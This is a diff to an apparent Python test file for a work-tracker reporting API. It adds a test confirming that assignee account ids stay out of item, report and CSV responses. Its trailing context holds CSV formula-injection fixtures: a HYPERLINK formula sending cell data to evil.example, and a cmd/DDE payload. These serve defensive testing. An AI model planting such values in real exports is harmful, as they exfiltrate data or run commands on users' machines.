@@ -180,6 +180,39 @@ def test_item_links_are_http_or_https_only(client: TestClient, seeded: Database)
     assert "javascript" not in flags.text.lower()
 
 
+def test_an_items_assignee_and_start_are_in_no_answer(client: TestClient, seeded: Database) -> None:
+    """Who holds an item is person-level data the store keeps for its own computations: the item's
+    document, the flag and value listings and the CSV never carry the account id (nor, not being part
+    of the published item document, the start)."""
+    account = "557058:0e5c4bd2-private-account"
+    assigned = [
+        make_item("20", key="ONB-20", points=2.0, assignee=account, started_at=T0 - timedelta(days=3)),
+        make_item("21", key="ONB-21", parent_id="10", points=1.0, assignee=account),
+    ]
+    seeded.items.upsert(assigned)
+    remap(seeded)
+    stored = seeded.items.by_id("jira", "20")
+    assert stored is not None
+    assert stored.item.assignee == account  # kept, for the store's computations
+    token = seeded.tokens.create("viewer", "pm")
+    answers = [
+        client.get(f"/api/items/jira/{key}", headers=auth(token)) for key in ("ONB-20", "onb-21", "ONB-1")
+    ]
+    answers += [
+        client.get("/api/reports/flags", params={"limit": 50}, headers=auth(token)),
+        client.get("/api/reports/values/customer-first/items", headers=auth(token)),
+        client.get("/api/reports/effort-by-value", headers=auth(token)),
+        client.get("/api/reports/effort-by-value.csv", headers=auth(token)),
+    ]
+    for answer in answers:
+        assert answer.status_code == 200, answer.text
+        assert "0e5c4bd2" not in answer.text, answer.request.url
+    document = answers[0].json()
+    assert document["key"] == "ONB-20"
+    assert not {"assignee", "started_at"} & set(document["item"])
+    assert "ONB-20" in answers[3].text  # the untagged item is listed, without its assignee
+
+
 HOSTILE_NAMES = {
     "Customer-first thinking": '=HYPERLINK("https://evil.example/?"&A1,"Details")',
     "Reliability": "+cmd|' /C calc'!A0",
